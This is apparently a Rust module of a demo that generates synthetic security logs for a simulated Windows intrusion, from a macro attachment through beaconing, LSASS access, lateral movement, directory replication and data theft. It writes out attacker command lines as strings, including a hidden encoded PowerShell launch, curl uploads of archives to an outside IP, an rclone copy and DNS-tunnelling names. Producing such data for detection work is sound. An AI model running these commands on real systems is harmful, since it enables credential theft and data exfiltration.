//! Building blocks of an intrusion inside: how somebody comes in, goes on, looks, takes, sends.

use std::sync::Arc;

use super::estate::{Account, Host, Share};
use super::network::{Flow, Request};
use super::routine::names;
use super::scene::{FactId, Proc, Scene, Session};
use super::windows::Way;
use crate::demo::clock::{MINUTE, Micros, SECOND};

/// The other end, outside.
#[derive(Clone, Debug)]
pub(super) struct Outside {
    pub(super) ip: String,
    pub(super) name: String,
    pub(super) port: u16,
}

/// A place where the intruder is.
#[derive(Clone, Debug)]
pub(super) struct Foothold {
    /// What shows that it is the intruder's.
    pub(super) fact: FactId,
    pub(super) session: Session,
    pub(super) proc: Proc,
    pub(super) since: Micros,
}

impl Foothold {
    pub(super) fn host(&self) -> &Arc<Host> {
        &self.session.host
    }
}

/// How somebody goes from one machine to the next.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Lateral {
    Desktop,
    Service,
    RemoteShell,
    Instrumentation,
    /// A service again, with a hash in place of a password.
    Hash,
}

/// How something leaves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Exit {
    Put,
    Post,
    Storage,
    Channel,
    Names,
}

/// What is sent.
#[derive(Clone, Debug)]
pub(super) struct Parcel {
    pub(super) path: String,
    pub(super) bytes: u64,
}

/// A folder that is looked at or taken.
#[derive(Clone, Copy, Debug)]
pub(super) struct Folder<'a> {
    pub(super) path: &'a str,
    pub(super) files: &'a [(String, u64)],
    /// What shows the touch.
    pub(super) fact: FactId,
}

const PROGRAMS: [&str; 6] = ["sync", "updater", "helper", "agent", "viewer", "host"];

impl Scene {
    fn program(&mut self, folder: &str) -> String {
        let (word, n) = (self.rng.word(&PROGRAMS), self.rng.below(90));
        format!(r"{folder}\{word}{n}.exe")
    }

    /// Somebody opens an attachment, and something begins to run.
    pub(super) fn entry(&mut self, user: &Arc<Account>, time: Micros) -> Foothold {
        let fact = self.facts.add(None);
        let host = Arc::clone(&user.home);
        let way = Way { kind: 2, from: None, ntlm: false };
        let session = self.logon(&host, user, &way, time - 25 * MINUTE, None);
        let explorer = self.running(r"C:\Windows\explorer.exe");
        let office = r"C:\Program Files\Microsoft Office\root\Office16";
        let mail = format!(r"{office}\OUTLOOK.EXE");
        let outlook = self.start(
            &session,
            &explorer,
            (&mail, &format!("\"{mail}\"")),
            time - 20 * MINUTE,
            None,
        );
        let word = format!(r"{office}\WINWORD.EXE");
        let document = format!(r"C:\Users\{}\AppData\Local\Temp\Einladung.docm", user.name);
        let opened = format!("\"{word}\" /n \"{document}\"");
        let word = self.start(&session, &outlook, (&word, &opened), time - MINUTE, None);
        let shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        let hidden = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAGkAdwByACkA";
        let shell = self.start(&session, &word, (shell, hidden), time - 20 * SECOND, None);
        let image = self.program(&format!(r"C:\Users\{}\AppData\Local\Temp", user.name));
        self.created(&session, &shell, &image, time - SECOND, None);
        let command = format!("\"{image}\"");
        let proc = self.start(&session, &shell, (&image, &command), time, Some(fact));
        Foothold { fact, session, proc, since: time }
    }

    /// It calls home again and again.
    pub(super) fn beacon(&mut self, at: &Foothold, outside: &Outside, until: Micros, fact: FactId) {
        let step = self.rng.between(35, 160) * MINUTE;
        let mut time = at.since + 2 * SECOND;
        while time < until {
            self.dns(at.host(), &outside.name, &outside.ip, time - SECOND / 3, None);
            self.connect(
                &at.session,
                &at.proc,
                (&outside.ip, &outside.name, outside.port),
                time,
                Some(fact),
            );
            let flow = Flow {
                from: at.host(),
                to: &outside.ip,
                port: outside.port,
                service: "ssl",
                time,
                duration: 2 * SECOND,
                sent: 900 + self.rng.below(3_000),
                received: 600 + self.rng.below(9_000),
            };
            let thread = self.flow(&flow, Some(fact));
            self.ssl(&flow, &thread, &outside.name, Some(fact));
            time += step + self.rng.between(0, step / 5 + 1);
        }
    }

    /// A task that starts it again.
    pub(super) fn persist(&mut self, at: &Foothold, time: Micros) {
        let image = at.proc.image.clone();
        let name = self.rng.word(&[r"\OneDrive Sync", r"\Office\Telemetry", r"\Adobe Update"]);
        self.task(&at.session, (name, &image), time, None);
    }

    /// The memory of LSASS is read: whoever has a session here has lost the password's hash.
    pub(super) fn read_memory(&mut self, at: &Foothold, time: Micros, fact: FactId) {
        let access = self.rng.word(&["0x1010", "0x1410", "0x1fffff"]);
        self.lsass(&at.session, &at.proc, access, time, Some(fact));
    }

    /// From one machine to the next, as somebody.
    pub(super) fn go(
        &mut self,
        at: &Foothold,
        (account, to): (&Arc<Account>, &Arc<Host>),
        by: Lateral,
        time: Micros,
    ) -> Foothold {
        let fact = self.facts.add(Some(at.fact));
        let seen = Some(fact);
        let (port, service) = match by {
            Lateral::Desktop => (3_389, "rdp"),
            Lateral::Service | Lateral::Hash => (445, "gssapi,smb"),
            Lateral::RemoteShell => (5_985, "http"),
            Lateral::Instrumentation => (135, "dce_rpc"),
        };
        let ip = to.ip.clone();
        let flow = Flow {
            from: at.host(),
            to: &ip,
            port,
            service,
            time,
            duration: 40 * SECOND,
            sent: 60_000,
            received: 30_000,
        };
        let thread = self.flow(&flow, seen);
        if by == Lateral::Desktop {
            let command = format!("mstsc.exe /v:{}", to.name);
            let client = (r"C:\Windows\System32\mstsc.exe", command.as_str());
            let client = self.start(&at.session, &at.proc, client, time - 4 * SECOND, None);
            self.explicit(&at.session, (account, to), &client, time - SECOND, seen);
        } else if account.name != at.session.account.name && by != Lateral::Hash {
            self.explicit(&at.session, (account, to), &at.proc, time - SECOND, seen);
        }
        let ntlm = by == Lateral::Hash || self.rng.chance(15);
        if by == Lateral::Hash {
            let borrowed = Way { kind: 9, from: None, ntlm: false };
            self.logon(at.host(), account, &borrowed, time - 3 * SECOND, None);
        }
        let kind = if by == Lateral::Desktop { 10 } else { 3 };
        let session = self.logon(
            to,
            account,
            &Way { kind, from: Some(at.host()), ntlm },
            time + SECOND / 4,
            seen,
        );
        let time = time + 3 * SECOND;
        match by {
            Lateral::Service | Lateral::Hash => {
                let unc = format!(r"\\{}\ADMIN$", to.name);
                self.mapping(&flow, &thread, &unc);
                self.rpc(&flow, &thread, ("svcctl", "CreateServiceW"), seen);
                self.as_service(&session, fact, time)
            }
            _ => self.as_child(session, by, fact, time),
        }
    }

    fn as_service(&mut self, session: &Session, fact: FactId, time: Micros) -> Foothold {
        let image = self.program(r"C:\Windows");
        let file = image.rsplit('\\').next().unwrap_or("").to_owned();
        let admin = ("ADMIN$", r"C:\Windows");
        self.share(session, admin, time - SECOND);
        self.share_file(session, admin, (&file, true), time - SECOND / 2, Some(fact));
        let name = file.trim_end_matches(".exe").to_owned();
        self.service(session, (&name, &format!(r"%SystemRoot%\{file}")), time, Some(fact));
        let system = self.system_session(&session.host);
        let services = self.running(r"C:\Windows\System32\services.exe");
        let proc = self.start(&system, &services, (&image, &image), time + SECOND, Some(fact));
        self.logoff(session, time + MINUTE);
        Foothold { fact, session: system, proc, since: time + SECOND }
    }

    fn as_child(&mut self, session: Session, by: Lateral, fact: FactId, time: Micros) -> Foothold {
        let (parent, command) = match by {
            Lateral::RemoteShell => (
                r"C:\Windows\System32\wsmprovhost.exe",
                r"C:\Windows\system32\wsmprovhost.exe -Embedding",
            ),
            Lateral::Instrumentation => (
                r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
            ),
            _ => (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
        };
        let host = self.running(r"C:\Windows\System32\svchost.exe");
        let parent = self.start(&session, &host, (parent, command), time - SECOND, Some(fact));
        let image = self.program(r"C:\ProgramData");
        let proc = self.start(&session, &parent, (&image, &image), time + SECOND, Some(fact));
        Foothold { fact, session, proc, since: time + SECOND }
    }

    /// The directory is replicated, the signing key with it.
    pub(super) fn replicate(
        &mut self,
        at: &Foothold,
        account: &Arc<Account>,
        time: Micros,
        fact: FactId,
    ) {
        let dc = Arc::clone(&self.estate.dc);
        let way = Way { kind: 3, from: Some(at.host()), ntlm: false };
        let session = self.logon(&dc, account, &way, time, None);
        self.replicated(&session, time + SECOND, Some(fact));
        let ip = dc.ip.clone();
        let flow = Flow {
            from: at.host(),
            to: &ip,
            port: 49_667,
            service: "dce_rpc",
            time: time + SECOND,
            duration: 9 * SECOND,
            sent: 20_000,
            received: 900_000,
        };
        let thread = self.flow(&flow, None);
        self.rpc(&flow, &thread, ("drsuapi", "DRSGetNCChanges"), Some(fact));
        self.logoff(&session, time + MINUTE);
    }

    /// The intruder opens a share; the session in which folders are looked at.
    pub(super) fn mount(
        &mut self,
        at: &Foothold,
        account: &Arc<Account>,
        share: &Share,
        time: Micros,
        fact: FactId,
    ) -> Session {
        if account.name != at.session.account.name {
            self.explicit(&at.session, (account, &share.host), &at.proc, time - SECOND, None);
        }
        let way = Way { kind: 3, from: Some(at.host()), ntlm: self.rng.chance(20) };
        let session = self.logon(&share.host, account, &way, time, Some(fact));
        let (name, local) = names(share);
        self.share(&session, (&name, &local), time + SECOND / 7);
        session
    }

    /// Files of a share are read over the network.
    pub(super) fn read_folder(
        &mut self,
        at: &Foothold,
        session: &Session,
        share: &Share,
        folder: Folder<'_>,
        time: Micros,
    ) {
        let (name, local) = names(share);
        let total: u64 = folder.files.iter().map(|(_, size)| size).sum();
        let ip = share.host.ip.clone();
        let flow = Flow {
            from: at.host(),
            to: &ip,
            port: 445,
            service: "gssapi,smb",
            time: time - SECOND / 10,
            duration: MINUTE,
            sent: 12_000,
            received: total,
        };
        let thread = self.flow(&flow, None);
        let unc = format!(r"\\{}\{name}", share.host.name);
        self.mapping(&flow, &thread, &unc);
        let system = self.running("System");
        for (n, (file, size)) in (1..).zip(folder.files) {
            let at = time + n * SECOND;
            let below = format!(r"{}\{file}", folder.path);
            let fact = Some(folder.fact);
            self.share_file(session, (&name, &local), (&below, false), at, fact);
            self.object_read(session, &format!(r"{local}\{below}"), &system, at, fact);
            self.smb_file((&flow, &thread), (&unc, &below, *size, false), at, fact);
        }
    }

    /// What was found goes into an archive, by a program whose command line says so.
    pub(super) fn pack(
        &mut self,
        at: &Foothold,
        sources: &[(String, FactId)],
        bytes: u64,
        time: Micros,
    ) -> Parcel {
        let n = self.rng.below(900);
        let (tool, extension, switch) = self
            .rng
            .choose(&[
                (r"C:\ProgramData\7z.exe", "7z", "a -mx5"),
                (r"C:\ProgramData\rar.exe", "rar", "a -r -hp1q2w"),
                (r"C:\Windows\System32\tar.exe", "zip", "-a -cf"),
            ])
            .copied()
            .unwrap_or((r"C:\ProgramData\7z.exe", "7z", "a"));
        let path = format!(r"C:\ProgramData\cache{n}.{extension}");
        for (n, (source, fact)) in (0..).zip(sources) {
            let at_time = time + n * 20 * SECOND;
            let command = format!("\"{tool}\" {switch} {path} \"{source}\"");
            let proc = self.start(&at.session, &at.proc, (tool, &command), at_time, Some(*fact));
            if n == 0 {
                self.created(&at.session, &proc, &path, at_time + SECOND, None);
            }
        }
        Parcel { path, bytes: bytes * self.rng.below(30).saturating_add(65) / 100 + 400 }
    }

    /// It leaves. The fact of the departure is seen in the sensor's counts, or in what was typed.
    pub(super) fn send(
        &mut self,
        at: &Foothold,
        parcel: &Parcel,
        outside: &Outside,
        exit: Exit,
        time: Micros,
        fact: FactId,
    ) {
        let file = parcel.path.rsplit('\\').next().unwrap_or("").to_owned();
        let (ip, name, port) = match exit {
            Exit::Storage => ("198.51.100.77".to_owned(), "storage.example.net".to_owned(), 443),
            Exit::Put | Exit::Post => (outside.ip.clone(), outside.ip.clone(), 80),
            Exit::Channel | Exit::Names => (outside.ip.clone(), outside.name.clone(), outside.port),
        };
        let (image, command) = match exit {
            Exit::Storage => {
                let image =
                    format!(r"C:\ProgramData\{}.exe", self.rng.word(&["rclone", "svc64", "rc"]));
                (image.clone(), format!("{image} copy {} remote:{file} --transfers 4", parcel.path))
            }
            Exit::Put | Exit::Post => {
                let method = if exit == Exit::Put { "-T" } else { "-F file=@" };
                let image = r"C:\Windows\System32\curl.exe".to_owned();
                (image, format!("curl.exe -s {method} {} http://{ip}/u/{file}", parcel.path))
            }
            Exit::Channel | Exit::Names => (String::new(), String::new()),
        };
        let fact = Some(fact);
        let proc = if image.is_empty() {
            at.proc.clone()
        } else {
            self.start(&at.session, &at.proc, (&image, &command), time - SECOND, fact)
        };
        if exit == Exit::Names {
            self.send_names(at, parcel, outside, time, fact);
        } else {
            self.connect(&at.session, &proc, (&ip, &name, port), time, None);
            let flow = Flow {
                from: at.host(),
                to: &ip,
                port,
                service: if port == 80 { "http" } else { "ssl" },
                time,
                duration: 5 * SECOND + i64::try_from(parcel.bytes / 2).unwrap_or(0),
                sent: parcel.bytes + 900,
                received: 2_400,
            };
            let thread = self.flow(&flow, fact);
            if port == 80 {
                let method = if exit == Exit::Put { "PUT" } else { "POST" };
                let uri = format!("/u/{file}");
                let request =
                    Request { method, host: &ip, uri: &uri, agent: "curl/8.4.0", status: 201 };
                self.http(&flow, &thread, request, fact);
            } else {
                self.ssl(&flow, &thread, &name, None);
            }
        }
    }

    /// A small parcel, in many names that are asked for.
    fn send_names(
        &mut self,
        at: &Foothold,
        parcel: &Parcel,
        outside: &Outside,
        time: Micros,
        fact: Option<FactId>,
    ) {
        let count = (parcel.bytes / 120).min(600);
        for n in 0..count {
            let label = format!("{:016x}{:016x}{:08x}", self.rng.next(), self.rng.next(), n);
            let name = format!("{label}.d.{}", outside.name);
            let at_time = time + i64::try_from(n).unwrap_or(0) * SECOND / 3;
            self.dns(at.host(), &name, "192.0.2.1", at_time, fact);
        }
    }
}
